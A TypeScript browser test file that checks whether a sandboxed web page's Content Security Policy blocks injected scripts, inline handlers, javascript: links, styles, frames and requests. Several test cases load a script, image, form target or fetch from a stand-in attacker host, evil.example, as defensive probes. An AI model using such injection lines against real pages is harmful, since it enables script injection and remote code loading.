import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { type Sandbox, startSandbox } from "#src/sandbox/index.ts";
import { addPage } from "#src/sandbox/web/page.ts";
import { launch, openWindow, type Window } from "./browser.ts";

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let browser: Browser;
let sandbox: Sandbox;
let shown: Window;
beforeAll(async () => {
  browser = await launch();
  sandbox = await startSandbox({ world: "demo", page: addPage });
  shown = await openWindow(browser);
  await shown.page.addInitScript(`
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
  `);
  await shown.page.goto(sandbox.url);
  await shown.page.locator("#composer-text").waitFor();
});
afterAll(async () => {
  await shown[Symbol.asyncDispose]();
  await sandbox.close();
  await browser.close();
});

const refused = () => shown.page.evaluate<string[]>("window.refused");

test("the page itself needs nothing that its policy refuses", async () => {
  expect([await refused(), shown.problems, shown.outside]).toEqual([[], [], []]);
});

// One after the other: what each of them would do if it were let.
test.each([
  [
    "a script in the page",
    "script-src-elem",
    "const s = document.createElement('script'); s.textContent = 'window.done = 1'; document.body.append(s)",
  ],
  [
    "a handler in an attribute",
    "script-src-attr",
    "const b = document.createElement('b'); b.setAttribute('onclick', 'window.done = 1'); document.body.append(b); b.click()",
  ],
  [
    "an address that is a script",
    "script-src-elem",
    "const a = document.createElement('a'); a.href = 'javascript:window.done = 1'; document.body.append(a); a.click()",
  ],
  [
    "a script from elsewhere",
    "script-src-elem",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
  ],
  [
    "a picture from elsewhere",
    "img-src",
    "const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i)",
  ],
  [
    "a style in the page",
    "style-src-elem",
    "const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s)",
  ],
  ["a frame", "frame-src", "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f)"],
  [
    "another place to send a form to",
    "form-action",
    "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
  ],
  ["a request to elsewhere", "connect-src", "fetch('https://evil.example/').catch(() => {})"],
])("%s is refused", async (_what, directive, attempt) => {
  await shown.page.evaluate("window.refused.length = 0");
  await shown.page.evaluate(`{ ${attempt} }`);
  // Asked again and again from here: the page itself may evaluate nothing.
  await expect.poll(() => shown.page.evaluate("window.refused.length")).toBeGreaterThan(0);
  expect([await refused(), await shown.page.evaluate("window.done")]).toEqual([[directive], undefined]);
  expect(shown.outside).toEqual([]);
});

test("the page lets itself be shown in no frame, and the answers of its server neither", async () => {
  for (const path of ["/", "/sandbox/state", "/api/v10/gateway"]) {
    const { headers } = await fetch(sandbox.url + path);
    expect(headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
  }
});
